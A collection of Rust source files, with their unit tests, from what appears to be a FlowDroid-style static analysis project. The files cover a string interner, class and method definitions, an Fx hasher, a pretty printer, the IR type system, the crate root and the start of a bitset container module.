    fn empty_string_is_internable() {
        let mut i = Interner::new();
        let e = i.intern("");
        assert_eq!(i.resolve(e), "");
        assert!(!i.is_empty());
    }

    #[test]
    fn overlay_continues_base_numbering() {
        let mut base = Interner::new();
        let a = base.intern("alpha");
        let b = base.intern("beta");
        let base = Arc::new(base);

        let mut over = Interner::with_base(Arc::clone(&base));
        // Base strings resolve without inserting.
        assert_eq!(over.get("alpha"), Some(a));
        assert_eq!(over.intern("alpha"), a);
        assert_eq!(over.len(), 2);
        // New strings continue the base numbering, exactly as a flat
        // interner that interned the same sequence would.
        let c = over.intern("gamma");
        assert_eq!(c.index(), 2);
        assert_eq!(over.resolve(a), "alpha");
        assert_eq!(over.resolve(b), "beta");
        assert_eq!(over.resolve(c), "gamma");
        assert_eq!(over.len(), 3);

        let mut flat = Interner::new();
        flat.intern("alpha");
        flat.intern("beta");
        assert_eq!(flat.intern("gamma"), c);
    }

    #[test]
    fn overlay_clone_is_independent_of_sibling() {
        let mut base = Interner::new();
        base.intern("shared");
        let base = Arc::new(base);
        let mut x = Interner::with_base(Arc::clone(&base));
        let mut y = Interner::with_base(base);
        let sx = x.intern("only-x");
        let sy = y.intern("only-y");
        // Both overlays assign the same numeric id to their first new
        // string — ids are per-program, never cross-program.
        assert_eq!(sx, sy);
        assert_eq!(x.resolve(sx), "only-x");
        assert_eq!(y.resolve(sy), "only-y");
    }
}
