//! String interning.

use std::collections::HashMap;
use std::fmt;

/// An interned string. Cheap to copy, compare and hash.
///
/// Symbols are only meaningful relative to the [`Interner`] (and thus the
/// [`crate::Program`]) that produced them.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Symbol(u32);

impl Symbol {
    /// Returns the raw index of this symbol in its interner.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Debug for Symbol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "sym#{}", self.0)
    }
}

/// A simple append-only string interner.
#[derive(Default, Debug, Clone)]
pub struct Interner {
    strings: Vec<Box<str>>,
    map: HashMap<Box<str>, Symbol>,
}

impl Interner {
    /// Creates an empty interner.
    pub fn new() -> Self {
        Self::default()
    }

    /// Interns `s`, returning the existing symbol if already present.
    pub fn intern(&mut self, s: &str) -> Symbol {
        if let Some(&sym) = self.map.get(s) {
            return sym;
        }
        let sym = Symbol(u32::try_from(self.strings.len()).expect("too many symbols"));
        self.strings.push(s.into());
        self.map.insert(s.into(), sym);
        sym
    }

    /// Looks up an already-interned string without inserting.
    pub fn get(&self, s: &str) -> Option<Symbol> {
        self.map.get(s).copied()
    }

    /// Resolves a symbol back to its string.
    ///
    /// # Panics
    ///
    /// Panics if `sym` was produced by a different interner and is out of
    /// range for this one.
    pub fn resolve(&self, sym: Symbol) -> &str {
        &self.strings[sym.index()]
    }

    /// Number of interned strings.
    pub fn len(&self) -> usize {
        self.strings.len()
    }

    /// Returns `true` if nothing has been interned.
    pub fn is_empty(&self) -> bool {
        self.strings.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_dedupes() {
        let mut i = Interner::new();
        let a = i.intern("hello");
        let b = i.intern("world");
        let c = i.intern("hello");
        assert_eq!(a, c);
        assert_ne!(a, b);
        assert_eq!(i.resolve(a), "hello");
        assert_eq!(i.resolve(b), "world");
        assert_eq!(i.len(), 2);
    }

    #[test]
    fn get_does_not_insert() {
        let mut i = Interner::new();
        assert!(i.get("x").is_none());
        let s = i.intern("x");
        assert_eq!(i.get("x"), Some(s));
        assert_eq!(i.len(), 1);
    }

    #[test]
    fn empty_string_is_internable() {
        let mut i = Interner::new();
        let e = i.intern("");
        assert_eq!(i.resolve(e), "");
        assert!(!i.is_empty());
    }
}
