//! Classes, fields, methods and cross-references between them.

use crate::body::Body;
use crate::symbols::Symbol;
use crate::types::Type;
use std::collections::HashMap;
use std::fmt;

macro_rules! id_type {
    ($(#[$doc:meta])* $name:ident, $tag:literal) => {
        $(#[$doc])*
        #[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub struct $name(u32);

        impl $name {
            /// Builds an id from a raw arena index.
            pub fn from_index(i: usize) -> Self {
                Self(u32::try_from(i).expect("index overflow"))
            }

            /// Raw arena index.
            pub fn index(self) -> usize {
                self.0 as usize
            }
        }

        impl fmt::Debug for $name {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                write!(f, concat!($tag, "#{}"), self.0)
            }
        }
    };
}

id_type!(
    /// Identifies a [`Class`] within a [`crate::Program`].
    ClassId,
    "class"
);
id_type!(
    /// Identifies a [`Method`] within a [`crate::Program`].
    MethodId,
    "method"
);
id_type!(
    /// Identifies a [`Field`] within a [`crate::Program`].
    FieldId,
    "field"
);

/// A method subsignature: name, parameter types and return type, without
/// the declaring class. Dispatch resolution matches on subsignatures.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct SubSig {
    /// Method name.
    pub name: Symbol,
    /// Parameter types in order.
    pub params: Vec<Type>,
    /// Return type.
    pub ret: Type,
}

/// A symbolic reference to a method: the statically named class plus the
/// subsignature. Resolution to a concrete [`MethodId`] happens through the
/// class hierarchy (see the `flowdroid-callgraph` crate).
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub struct MethodRef {
    /// Statically referenced class.
    pub class: ClassId,
    /// The subsignature looked up on that class.
    pub subsig: SubSig,
}

/// A field definition.
#[derive(Clone, Debug)]
pub struct Field {
    pub(crate) id: FieldId,
    pub(crate) class: ClassId,
    pub(crate) name: Symbol,
    pub(crate) ty: Type,
    pub(crate) is_static: bool,
}

impl Field {
    /// This field's id.
    pub fn id(&self) -> FieldId {
        self.id
    }

    /// The declaring class.
    pub fn class(&self) -> ClassId {
        self.class
    }

    /// The field name symbol.
    pub fn name(&self) -> Symbol {
        self.name
    }

    /// The declared type.
    pub fn ty(&self) -> &Type {
        &self.ty
    }

    /// Whether this is a static field.
    pub fn is_static(&self) -> bool {
        self.is_static
    }
}

/// A method definition (possibly abstract or native, i.e. body-less).
#[derive(Clone, Debug)]
pub struct Method {
    pub(crate) id: MethodId,
    pub(crate) class: ClassId,
    pub(crate) subsig: SubSig,
    pub(crate) is_static: bool,
    pub(crate) is_native: bool,
    pub(crate) is_abstract: bool,
    pub(crate) body: Option<Body>,
    pub(crate) body_pending: bool,
}

impl Method {
    /// This method's id.
    pub fn id(&self) -> MethodId {
        self.id
    }

    /// The declaring class.
    pub fn class(&self) -> ClassId {
        self.class
    }

    /// The method subsignature.
    pub fn subsig(&self) -> &SubSig {
        &self.subsig
    }

    /// The method name symbol.
    pub fn name(&self) -> Symbol {
        self.subsig.name
    }

    /// Whether the method is static.
    pub fn is_static(&self) -> bool {
        self.is_static
    }

    /// Whether the method is native (body-less, modeled by rules).
    pub fn is_native(&self) -> bool {
        self.is_native
    }

    /// Whether the method is abstract.
    pub fn is_abstract(&self) -> bool {
        self.is_abstract
    }

    /// The body, if the method has one *and* it is materialized. Deferred
    /// bodies (see [`crate::Program::defer_body`]) return `None` until
    /// [`crate::Program::ensure_body`] decodes them.
    pub fn body(&self) -> Option<&Body> {
        self.body.as_ref()
    }

    /// Returns `true` if the method has an analyzable body — decoded or
    /// deferred. Signature-level decisions (overrides, callback wiring,
    /// real-vs-stub call edges) key on this, so they are identical under
    /// eager and lazy loading.
    pub fn has_body(&self) -> bool {
        self.body.is_some() || self.body_pending
    }

    /// Returns `true` if the body is deferred and not yet materialized.
    pub fn body_is_pending(&self) -> bool {
        self.body_pending
    }

    /// Number of declared parameters (excluding `this`).
    pub fn param_count(&self) -> usize {
        self.subsig.params.len()
    }

    /// The local slot holding `this`, for instance methods.
    pub fn this_local(&self) -> Option<crate::stmt::Local> {
        if self.is_static {
            None
        } else {
            Some(crate::stmt::Local(0))
        }
    }

    /// The local slot holding the `i`-th declared parameter.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn param_local(&self, i: usize) -> crate::stmt::Local {
        assert!(i < self.subsig.params.len(), "parameter index out of range");
        let off = if self.is_static { 0 } else { 1 };
        crate::stmt::Local(u32::try_from(off + i).expect("overflow"))
    }

    /// All parameter locals including `this` (first, if present).
    pub fn implicit_param_locals(&self) -> Vec<crate::stmt::Local> {
        let n = self.subsig.params.len() + usize::from(!self.is_static);
        (0..n as u32).map(crate::stmt::Local).collect()
    }
}

/// A class or interface definition.
///
/// Classes referenced but never declared are *phantom*
/// ([`Class::is_declared`] returns `false`); they participate in the
/// hierarchy as leaves directly under `java.lang.Object`.
#[derive(Clone, Debug)]
pub struct Class {
    pub(crate) id: ClassId,
    pub(crate) name: Symbol,
    pub(crate) superclass: Option<ClassId>,
    pub(crate) interfaces: Vec<ClassId>,
    pub(crate) fields: Vec<FieldId>,
    pub(crate) methods: Vec<MethodId>,
    pub(crate) method_by_subsig: HashMap<SubSig, MethodId>,
    pub(crate) field_by_name: HashMap<Symbol, FieldId>,
    pub(crate) is_interface: bool,
    pub(crate) is_abstract: bool,
    pub(crate) is_declared: bool,
}

impl Class {
    /// This class's id.
    pub fn id(&self) -> ClassId {
        self.id
    }

    /// The class name symbol (fully qualified dotted name).
    pub fn name(&self) -> Symbol {
        self.name
    }

    /// The direct superclass, if any (`java.lang.Object` has none).
    pub fn superclass(&self) -> Option<ClassId> {
        self.superclass
    }

    /// Directly implemented interfaces.
    pub fn interfaces(&self) -> &[ClassId] {
        &self.interfaces
    }

    /// Declared fields.
    pub fn fields(&self) -> &[FieldId] {
        &self.fields
    }

    /// Declared methods.
    pub fn methods(&self) -> &[MethodId] {
        &self.methods
    }

    /// Looks up a declared method by subsignature (no hierarchy walk).
    pub fn method_by_subsig(&self, subsig: &SubSig) -> Option<MethodId> {
        self.method_by_subsig.get(subsig).copied()
    }

    /// Looks up a declared field by name (no hierarchy walk).
    pub fn field_by_name(&self, name: Symbol) -> Option<FieldId> {
        self.field_by_name.get(&name).copied()
    }

    /// Whether this is an interface.
    pub fn is_interface(&self) -> bool {
        self.is_interface
    }

    /// Whether this class is abstract.
    pub fn is_abstract(&self) -> bool {
        self.is_abstract
    }

    /// Whether the class was actually declared (as opposed to phantom).
    pub fn is_declared(&self) -> bool {
        self.is_declared
    }
}
