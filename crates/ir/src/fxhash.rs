//! A fast, non-cryptographic hasher for the analysis hot paths.
//!
//! Std's default SipHash-1-3 is DoS-resistant but costs real time in
//! the IFDS tables, which hash small `Copy` keys (statement refs,
//! interned fact ids) millions of times per run. This is the classic
//! "Fx" multiply-xor hash used by rustc (the environment has no
//! crates.io access, so `rustc-hash` is reimplemented here, std-only):
//! each 8-byte chunk is folded in with a rotate, xor and multiply by a
//! 64-bit constant derived from the golden ratio. Inputs here are
//! internal ids, never attacker-controlled, so HashDoS is not a
//! concern.

use std::hash::{BuildHasherDefault, Hasher};

/// Multiplicative constant (⌊2⁶⁴/φ⌋, forced odd — the same constant
/// rustc's FxHasher uses).
const SEED: u64 = 0x51_7c_c1_b7_27_22_0a_95;

/// The Fx multiply-xor hasher.
#[derive(Clone, Copy, Debug, Default)]
pub struct FxHasher {
    hash: u64,
}

impl FxHasher {
    #[inline]
    fn add_to_hash(&mut self, word: u64) {
        self.hash = (self.hash.rotate_left(5) ^ word).wrapping_mul(SEED);
    }
}

impl Hasher for FxHasher {
    #[inline]
    fn write(&mut self, mut bytes: &[u8]) {
        while bytes.len() >= 8 {
            let mut chunk = [0u8; 8];
            chunk.copy_from_slice(&bytes[..8]);
            self.add_to_hash(u64::from_le_bytes(chunk));
            bytes = &bytes[8..];
        }
        if bytes.len() >= 4 {
            let mut chunk = [0u8; 4];
            chunk.copy_from_slice(&bytes[..4]);
            self.add_to_hash(u64::from(u32::from_le_bytes(chunk)));
            bytes = &bytes[4..];
        }
        if bytes.len() >= 2 {
            let mut chunk = [0u8; 2];
            chunk.copy_from_slice(&bytes[..2]);
            self.add_to_hash(u64::from(u16::from_le_bytes(chunk)));
            bytes = &bytes[2..];
        }
        if let Some(&b) = bytes.first() {
            self.add_to_hash(u64::from(b));
        }
    }

    #[inline]
    fn write_u8(&mut self, i: u8) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u16(&mut self, i: u16) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u32(&mut self, i: u32) {
        self.add_to_hash(u64::from(i));
    }

    #[inline]
    fn write_u64(&mut self, i: u64) {
        self.add_to_hash(i);
    }

    #[inline]
    fn write_usize(&mut self, i: usize) {
        self.add_to_hash(i as u64);
    }

    #[inline]
    fn finish(&self) -> u64 {
        self.hash
    }
}

/// `BuildHasher` for [`FxHasher`].
pub type FxBuildHasher = BuildHasherDefault<FxHasher>;

/// A `HashMap` using [`FxHasher`].
pub type FxHashMap<K, V> = std::collections::HashMap<K, V, FxBuildHasher>;

/// A `HashSet` using [`FxHasher`].
pub type FxHashSet<T> = std::collections::HashSet<T, FxBuildHasher>;

/// Hashes one value with [`FxHasher`] (used for shard selection in the
/// parallel solver).
pub fn fxhash64<T: std::hash::Hash>(value: &T) -> u64 {
    let mut h = FxHasher::default();
    value.hash(&mut h);
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn equal_values_hash_equal() {
        assert_eq!(fxhash64(&(1u32, 2u32)), fxhash64(&(1u32, 2u32)));
        assert_ne!(fxhash64(&(1u32, 2u32)), fxhash64(&(2u32, 1u32)));
    }

    #[test]
    fn maps_and_sets_work() {
        let mut m: FxHashMap<u32, &str> = FxHashMap::default();
        m.insert(1, "one");
        m.insert(2, "two");
        assert_eq!(m.get(&1), Some(&"one"));
        let mut s: FxHashSet<(u32, u32)> = FxHashSet::default();
        assert!(s.insert((3, 4)));
        assert!(!s.insert((3, 4)));
    }

    #[test]
    fn byte_tail_paths_are_exercised() {
        // 1-, 2-, 4-, 8- and mixed-length writes all fold in.
        let hashes: Vec<u64> = [&b"a"[..], b"ab", b"abcd", b"abcdefgh", b"abcdefghijk"]
            .iter()
            .map(|b| {
                let mut h = FxHasher::default();
                h.write(b);
                h.finish()
            })
            .collect();
        for (i, a) in hashes.iter().enumerate() {
            for b in &hashes[i + 1..] {
                assert_ne!(a, b);
            }
        }
    }

    #[test]
    fn distribution_is_reasonable() {
        // 16 shards over sequential ids should not collapse into a few
        // buckets.
        let mut counts = [0usize; 16];
        for i in 0..4096u64 {
            counts[(fxhash64(&i) >> 60) as usize] += 1;
        }
        for &c in &counts {
            assert!(c > 64, "shard badly underloaded: {counts:?}");
        }
    }
}
