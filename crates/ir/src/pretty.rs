//! Human-readable printing of programs, classes, methods and statements.

use crate::class::{ClassId, MethodId};
use crate::program::Program;
use crate::stmt::{
    BinOp, CmpOp, Cond, Constant, InvokeExpr, InvokeKind, Operand, Place, Rvalue, Stmt, UnOp,
};
use std::fmt::Write;

/// Pretty printer resolving ids against a [`Program`].
///
/// # Example
///
/// ```
/// use flowdroid_ir::{Program, MethodBuilder, Type, ProgramPrinter};
///
/// let mut p = Program::new();
/// let c = p.declare_class("Hello", None, &[]);
/// MethodBuilder::new_static_on(&mut p, c, "main", vec![], Type::Void).finish();
/// let text = ProgramPrinter::new(&p).program_to_string();
/// assert!(text.contains("class Hello"));
/// ```
#[derive(Debug)]
pub struct ProgramPrinter<'p> {
    program: &'p Program,
}

impl<'p> ProgramPrinter<'p> {
    /// Creates a printer over `program`.
    pub fn new(program: &'p Program) -> Self {
        Self { program }
    }

    /// Prints every declared class.
    pub fn program_to_string(&self) -> String {
        let mut out = String::new();
        for c in self.program.classes() {
            if c.is_declared() {
                out.push_str(&self.class_to_string(c.id()));
                out.push('\n');
            }
        }
        out
    }

    /// Prints one class with its fields and method bodies.
    pub fn class_to_string(&self, id: ClassId) -> String {
        let p = self.program;
        let c = p.class(id);
        let mut out = String::new();
        let kw = if c.is_interface() { "interface" } else { "class" };
        write!(out, "{} {}", kw, p.class_name(id)).unwrap();
        if let Some(s) = c.superclass() {
            write!(out, " extends {}", p.class_name(s)).unwrap();
        }
        if !c.interfaces().is_empty() {
            let names: Vec<_> = c.interfaces().iter().map(|&i| p.class_name(i)).collect();
            write!(out, " implements {}", names.join(", ")).unwrap();
        }
        out.push_str(" {\n");
        for &f in c.fields() {
            let fd = p.field(f);
            let st = if fd.is_static() { "static " } else { "" };
            writeln!(out, "  {}field {}: {};", st, p.str(fd.name()), p.type_name(fd.ty()))
                .unwrap();
        }
        for &m in c.methods() {
            out.push_str(&self.method_to_string(m));
        }
        out.push_str("}\n");
        out
    }

    /// Prints one method header and body.
    pub fn method_to_string(&self, id: MethodId) -> String {
        let p = self.program;
        let m = p.method(id);
        let mut out = String::new();
        let st = if m.is_static() { "static " } else { "" };
        let nat = if m.is_native() { "native " } else { "" };
        let params: Vec<_> = m.subsig().params.iter().map(|t| p.type_name(t)).collect();
        writeln!(
            out,
            "  {}{}method {}({}) -> {} {{",
            st,
            nat,
            p.str(m.name()),
            params.join(", "),
            p.type_name(&m.subsig().ret)
        )
        .unwrap();
        if let Some(body) = m.body() {
            for (i, _) in body.stmts().iter().enumerate() {
                writeln!(out, "    {:>3}: {}", i, self.stmt_to_string(id, i)).unwrap();
            }
        }
        out.push_str("  }\n");
        out
    }

    /// Prints a single statement of a method.
    ///
    /// # Panics
    ///
    /// Panics if the method has no body or `idx` is out of range.
    pub fn stmt_to_string(&self, method: MethodId, idx: usize) -> String {
        let body = self.program.method(method).body().expect("method has no body");
        self.fmt_stmt(method, body.stmt(idx))
    }

    fn local_name(&self, method: MethodId, l: crate::stmt::Local) -> String {
        let body = self.program.method(method).body();
        match body.and_then(|b| b.locals().get(l.index())) {
            Some(d) => d.name.clone(),
            None => format!("%{}", l.0),
        }
    }

    fn fmt_operand(&self, m: MethodId, o: &Operand) -> String {
        match o {
            Operand::Local(l) => self.local_name(m, *l),
            Operand::Const(c) => self.fmt_const(c),
        }
    }

    fn fmt_const(&self, c: &Constant) -> String {
        match c {
            Constant::Int(i) => i.to_string(),
            Constant::Str(s) => format!("{:?}", self.program.str(*s)),
            Constant::Null => "null".to_owned(),
            Constant::Class(s) => format!("{}.class", self.program.str(*s)),
        }
    }

    fn fmt_place(&self, m: MethodId, pl: &Place) -> String {
        let p = self.program;
        match pl {
            Place::Local(l) => self.local_name(m, *l),
            Place::InstanceField(b, f) => {
                format!("{}.{}", self.local_name(m, *b), p.str(p.field(*f).name()))
            }
            Place::StaticField(f) => {
                let fd = p.field(*f);
                format!("{}.{}", p.class_name(fd.class()), p.str(fd.name()))
            }
            Place::ArrayElem(b, i) => {
                format!("{}[{}]", self.local_name(m, *b), self.fmt_operand(m, i))
            }
        }
    }

    fn fmt_rvalue(&self, m: MethodId, r: &Rvalue) -> String {
        let p = self.program;
        match r {
            Rvalue::Read(pl) => self.fmt_place(m, pl),
            Rvalue::Const(c) => self.fmt_const(c),
            Rvalue::New(c) => format!("new {}", p.class_name(*c)),
            Rvalue::NewArray(t, n) => {
                format!("new {}[{}]", p.type_name(t), self.fmt_operand(m, n))
            }
            Rvalue::BinOp(op, a, b) => format!(
                "{} {} {}",
                self.fmt_operand(m, a),
                binop_str(*op),
                self.fmt_operand(m, b)
            ),
            Rvalue::UnOp(UnOp::Neg, a) => format!("-{}", self.fmt_operand(m, a)),
            Rvalue::UnOp(UnOp::Len, a) => format!("len({})", self.fmt_operand(m, a)),
            Rvalue::Cast(t, a) => format!("({}) {}", p.type_name(t), self.fmt_operand(m, a)),
            Rvalue::InstanceOf(a, t) => {
                format!("{} instanceof {}", self.fmt_operand(m, a), p.type_name(t))
            }
        }
    }

    fn fmt_invoke(&self, m: MethodId, call: &InvokeExpr) -> String {
        let p = self.program;
        let kind = match call.kind {
            InvokeKind::Virtual => "virtual",
            InvokeKind::Interface => "interface",
            InvokeKind::Special => "special",
            InvokeKind::Static => "static",
        };
        let args: Vec<_> = call.args.iter().map(|a| self.fmt_operand(m, a)).collect();
        let target = format!(
            "{}.{}",
            p.class_name(call.callee.class),
            p.str(call.callee.subsig.name)
        );
        match call.base {
            Some(b) => format!(
                "{} {}.{}({})",
                kind,
                self.local_name(m, b),
                target,
                args.join(", ")
            ),
            None => format!("{} {}({})", kind, target, args.join(", ")),
        }
    }

    fn fmt_stmt(&self, m: MethodId, s: &Stmt) -> String {
        match s {
            Stmt::Assign { lhs, rhs } => {
                format!("{} = {}", self.fmt_place(m, lhs), self.fmt_rvalue(m, rhs))
            }
            Stmt::Invoke { result: Some(r), call } => {
                format!("{} = {}", self.local_name(m, *r), self.fmt_invoke(m, call))
            }
            Stmt::Invoke { result: None, call } => self.fmt_invoke(m, call),
            Stmt::If { cond: Cond::Cmp(op, a, b), target } => format!(
                "if {} {} {} goto {}",
                self.fmt_operand(m, a),
                cmpop_str(*op),
                self.fmt_operand(m, b),
                target
            ),
            Stmt::If { cond: Cond::Opaque, target } => format!("if * goto {target}"),
            Stmt::Goto { target } => format!("goto {target}"),
            Stmt::Return { value: Some(v) } => format!("return {}", self.fmt_operand(m, v)),
            Stmt::Return { value: None } => "return".to_owned(),
            Stmt::Throw { value } => format!("throw {}", self.fmt_operand(m, value)),
            Stmt::Nop => "nop".to_owned(),
        }
    }
}

fn binop_str(op: BinOp) -> &'static str {
    match op {
        BinOp::Add => "+",
        BinOp::Sub => "-",
        BinOp::Mul => "*",
        BinOp::Div => "/",
        BinOp::Rem => "%",
        BinOp::And => "&",
        BinOp::Or => "|",
        BinOp::Xor => "^",
        BinOp::Shl => "<<",
        BinOp::Shr => ">>",
        BinOp::Cmp => "cmp",
    }
}

fn cmpop_str(op: CmpOp) -> &'static str {
    match op {
        CmpOp::Eq => "==",
        CmpOp::Ne => "!=",
        CmpOp::Lt => "<",
        CmpOp::Le => "<=",
        CmpOp::Gt => ">",
        CmpOp::Ge => ">=",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::builder::MethodBuilder;
    use crate::types::Type;

    #[test]
    fn prints_full_method() {
        let mut p = Program::new();
        p.declare_class("java.lang.Object", None, &[]);
        let c = p.declare_class("A", Some("java.lang.Object"), &[]);
        let f = p.declare_field(c, "data", Type::Int, false);
        let mut b = MethodBuilder::new_instance(&mut p, c, "run", vec![Type::Int], Type::Int);
        let this = b.this();
        let x = b.param(0);
        b.assign(Place::InstanceField(this, f), Rvalue::Read(Place::Local(x)));
        b.ret(Some(Operand::Local(x)));
        let m = b.finish();
        let text = ProgramPrinter::new(&p).method_to_string(m);
        assert!(text.contains("this.data = p0"), "got: {text}");
        assert!(text.contains("return p0"), "got: {text}");
        let cls = ProgramPrinter::new(&p).class_to_string(c);
        assert!(cls.contains("class A extends java.lang.Object"), "got: {cls}");
        assert!(cls.contains("field data: int;"), "got: {cls}");
    }

    #[test]
    fn prints_calls_and_branches() {
        let mut p = Program::new();
        let c = p.declare_class("B", None, &[]);
        let mut b = MethodBuilder::new_static_on(&mut p, c, "go", vec![], Type::Void);
        let sty = b.program().ref_type("java.lang.String");
        let s = b.local("s", sty.clone());
        b.call_static(Some(s), "Src", "get", vec![], sty.clone(), vec![]);
        let end = b.fresh_label();
        b.if_opaque(end);
        b.call_static(None, "Snk", "put", vec![sty], Type::Void, vec![Operand::Local(s)]);
        b.bind(end);
        let m = b.finish();
        let text = ProgramPrinter::new(&p).method_to_string(m);
        assert!(text.contains("s = static Src.get()"), "got: {text}");
        assert!(text.contains("if * goto"), "got: {text}");
        assert!(text.contains("static Snk.put(s)"), "got: {text}");
    }
}
