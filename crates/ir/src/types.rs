//! The IR type system: Java-like primitives, reference types and arrays.

use crate::class::ClassId;
use std::fmt;

/// A type in the IR.
///
/// Reference types point at a [`ClassId`] inside the owning
/// [`crate::Program`]; array element types are boxed.
#[derive(Clone, PartialEq, Eq, Hash, Debug)]
pub enum Type {
    /// `void`, usable only as a return type.
    Void,
    /// `boolean`
    Boolean,
    /// `byte`
    Byte,
    /// `char`
    Char,
    /// `short`
    Short,
    /// `int`
    Int,
    /// `long`
    Long,
    /// `float`
    Float,
    /// `double`
    Double,
    /// A class or interface type.
    Ref(ClassId),
    /// An array type with the given element type.
    Array(Box<Type>),
}

impl Type {
    /// Returns `true` for primitive (non-reference, non-void) types.
    pub fn is_primitive(&self) -> bool {
        matches!(
            self,
            Type::Boolean
                | Type::Byte
                | Type::Char
                | Type::Short
                | Type::Int
                | Type::Long
                | Type::Float
                | Type::Double
        )
    }

    /// Returns `true` for class/interface and array types.
    pub fn is_reference(&self) -> bool {
        matches!(self, Type::Ref(_) | Type::Array(_))
    }

    /// Returns the class id if this is a plain reference type.
    pub fn as_class(&self) -> Option<ClassId> {
        match self {
            Type::Ref(c) => Some(*c),
            _ => None,
        }
    }

    /// Returns the element type if this is an array type.
    pub fn element(&self) -> Option<&Type> {
        match self {
            Type::Array(e) => Some(e),
            _ => None,
        }
    }

    /// Wraps this type into an array type.
    pub fn array_of(self) -> Type {
        Type::Array(Box::new(self))
    }

    /// Number of array dimensions (0 for non-arrays).
    pub fn dimensions(&self) -> usize {
        match self {
            Type::Array(e) => 1 + e.dimensions(),
            _ => 0,
        }
    }
}

impl fmt::Display for Type {
    /// Displays primitives by their Java name; reference types print their
    /// class id (use [`crate::Program::type_name`] for resolved names).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Type::Void => write!(f, "void"),
            Type::Boolean => write!(f, "boolean"),
            Type::Byte => write!(f, "byte"),
            Type::Char => write!(f, "char"),
            Type::Short => write!(f, "short"),
            Type::Int => write!(f, "int"),
            Type::Long => write!(f, "long"),
            Type::Float => write!(f, "float"),
            Type::Double => write!(f, "double"),
            Type::Ref(c) => write!(f, "class#{}", c.index()),
            Type::Array(e) => write!(f, "{e}[]"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn array_dimensions() {
        let t = Type::Int.array_of().array_of();
        assert_eq!(t.dimensions(), 2);
        assert_eq!(t.element().unwrap().dimensions(), 1);
        assert!(t.is_reference());
        assert!(!t.is_primitive());
    }

    #[test]
    fn primitive_classification() {
        assert!(Type::Int.is_primitive());
        assert!(!Type::Void.is_primitive());
        assert!(!Type::Void.is_reference());
        assert_eq!(Type::Int.as_class(), None);
    }

    #[test]
    fn display_names() {
        assert_eq!(Type::Boolean.to_string(), "boolean");
        assert_eq!(Type::Int.array_of().to_string(), "int[]");
    }
}
