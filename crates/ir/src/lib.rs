#![warn(missing_docs)]

//! A Jimple-like three-address intermediate representation.
//!
//! This crate is the substrate equivalent of Soot's Jimple IR that the
//! original FlowDroid analyzes. Programs consist of [`Class`]es holding
//! [`Field`]s and [`Method`]s; method bodies are flat vectors of typed
//! three-address [`Stmt`]s with statement-level control flow (conditional
//! and unconditional gotos referencing statement indices).
//!
//! Everything is arena-allocated inside a [`Program`]: classes, methods
//! and fields are referred to by copyable integer ids ([`ClassId`],
//! [`MethodId`], [`FieldId`]) and all names are interned [`Symbol`]s.
//! Unknown referenced classes become *phantom* classes (as in Soot), so
//! programs can be constructed incrementally and still link.
//!
//! # Example
//!
//! ```
//! use flowdroid_ir::{Program, MethodBuilder, Type, Rvalue, Constant};
//!
//! let mut p = Program::new();
//! let object = p.declare_class("java.lang.Object", None, &[]);
//! let main_cls = p.declare_class("Main", Some("java.lang.Object"), &[]);
//! let string_ty = p.ref_type("java.lang.String");
//! let mut b = MethodBuilder::new_static_on(&mut p, main_cls, "main", vec![], Type::Void);
//! let x = b.local("x", string_ty.clone());
//! b.assign_local(x, Rvalue::Const(Constant::null()));
//! b.ret(None);
//! let main = b.finish();
//! assert_eq!(p.method(main).body().unwrap().stmts().len(), 2);
//! assert!(p.class(object).is_declared());
//! ```

mod body;
mod builder;
mod class;
pub mod fxhash;
pub mod hash;
mod pretty;
mod program;
mod stmt;
mod symbols;
mod types;

pub use body::{Body, Cfg, LocalDecl, StmtIdx, StmtRef};
pub use fxhash::{fxhash64, FxBuildHasher, FxHashMap, FxHashSet, FxHasher};
pub use builder::{Label, MethodBuilder};
pub use hash::body_fingerprint;
pub use class::{Class, ClassId, Field, FieldId, Method, MethodId, MethodRef, SubSig};
pub use pretty::ProgramPrinter;
pub use program::{BodySource, Program, ProgramBase};
pub use stmt::{
    BinOp, CmpOp, Cond, Constant, InvokeExpr, InvokeKind, Local, Operand, Place, Rvalue, Stmt,
    UnOp,
};
pub use symbols::{Interner, Symbol};
pub use types::Type;
