//! Bitset containers over dense index domains.
//!
//! The IFDS tabulators key their hot relations (path edges per node,
//! incoming sets, end summaries) by interned fact ids — small dense
//! `u32`s handed out in first-encounter order. Hash-map-of-hash-set
//! chains waste both space (an `FxHashSet` per `(node, d2)` pair) and
//! time (hash + probe per membership test) on what is really "a few
//! small integers per row". This crate provides the three containers
//! that replace them:
//!
//! * [`BitSet<T>`] — a growable word-array set; one bit per id.
//! * [`HybridBitSet<T>`] — stays an inline sorted array while the set
//!   has at most [`SPARSE_MAX`] elements (zero heap allocations), and
//!   promotes to a dense [`BitSet`] on overflow. Most IFDS rows hold a
//!   handful of facts; the hybrid makes those rows allocation-free
//!   while keeping dense rows O(1) per membership test.
//! * [`SparseBitMatrix<R, C>`] — rows allocated on first touch, each a
//!   `HybridBitSet<C>`; the shape of "per-statement fact relations"
//!   where most statements are never reached.
//!
//! All containers iterate in ascending index order, so iteration order
//! is a pure function of set contents — a property the deterministic
//! solvers above rely on.

/// A type usable as a dense index: convertible to and from `usize`.
///
/// Implementors must round-trip (`from_index(i).index() == i`) and be
/// cheap `Copy` — indices are passed by value everywhere.
pub trait Idx: Copy + Eq {
    /// The position of this id in the dense domain.
    fn index(self) -> usize;
    /// The id at a given position.
    fn from_index(i: usize) -> Self;
}

impl Idx for u32 {
    #[inline]
    fn index(self) -> usize {
        self as usize
    }
    #[inline]
    fn from_index(i: usize) -> Self {
        i as u32
    }
}

